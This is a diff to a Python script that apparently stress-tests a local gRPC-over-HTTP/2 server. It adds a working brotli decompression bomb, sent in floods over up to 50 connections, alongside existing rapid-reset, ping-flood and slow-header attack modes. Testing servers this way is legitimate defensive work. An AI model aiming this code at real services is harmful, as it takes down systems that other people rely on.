@@ -5,6 +5,7 @@ It says "attacking" once it does, and at the end a line of JSON."""
 import collections
 import json
 import pathlib
+import select
 import signal
 import socket
 import struct
@@ -113,7 +114,62 @@ def slow_headers(port):
         time.sleep(0.01)
 
 
-KINDS = {"rapid reset": rapid_reset, "ping flood": ping_flood, "zero window": zero_window, "slow headers": slow_headers}
+# 4,194,293 bytes in brotli: field 15, which no request has, with zeros.
+BOMB = bytes.fromhex("9bf4ff3ff88f93e546aba6fcd703a800f8b82d10907aff7304")
+
+
+def bomb_call(n):
+    block = REQUEST + b"\0" + bytes([len(b"grpc-encoding")]) + b"grpc-encoding" + b"\2br"
+    return (frame(HEADERS, END_HEADERS, n, block)
+            + frame(DATA, END_STREAM, n, b"\1" + struct.pack(">I", len(BOMB)) + BOMB))
+
+
+def bombs(port, connections):
+    """Small compressed requests that unpack to 4 MiB each, as fast as the server takes them, on many connections."""
+    held, number = [], {}
+    for _ in range(connections):
+        held.append(connect(port))
+        number[held[-1]] = 1
+    unsent = dict.fromkeys(held, b"")
+    for one in held:
+        one.setblocking(False)
+    began()
+    while True:
+        readable, writable, _ = select.select(held, held, [], 1)
+        for one in readable:
+            if not one.recv(1 << 16):
+                raise ConnectionError("the server hung up")
+        for one in writable:
+            if not unsent[one]:
+                first = number[one]
+                number[one] = first + 40
+                unsent[one] = b"".join(bomb_call(n) for n in range(first, first + 40, 2))
+            sent = one.send(unsent[one])
+            said["bytes"] += sent
+            unsent[one] = unsent[one][sent:]
+        time.sleep(0.001)
+
+
+def largest_message_s(port):
+    """The time that a calm server takes for one of these requests."""
+    one = socket.create_connection(("127.0.0.1", port), 10)
+    one.sendall(HELLO)
+    times = []
+    for n in range(1, 41, 2):
+        before = time.perf_counter()
+        one.sendall(bomb_call(n))
+        ended = False
+        while not ended:
+            head = one.recv(9, socket.MSG_WAITALL)
+            one.recv(int.from_bytes(head[:3], "big"), socket.MSG_WAITALL)
+            ended = head[3] == HEADERS and head[4] & END_STREAM
+        times.append(time.perf_counter() - before)
+    one.close()
+    return sorted(times)[len(times) // 2]
+
+
+KINDS = {"rapid reset": rapid_reset, "ping flood": ping_flood, "zero window": zero_window, "slow headers": slow_headers,
+         "bombs": lambda port: bombs(port, 1), "bombs of 50": lambda port: bombs(port, 50)}
 
 
 def began():
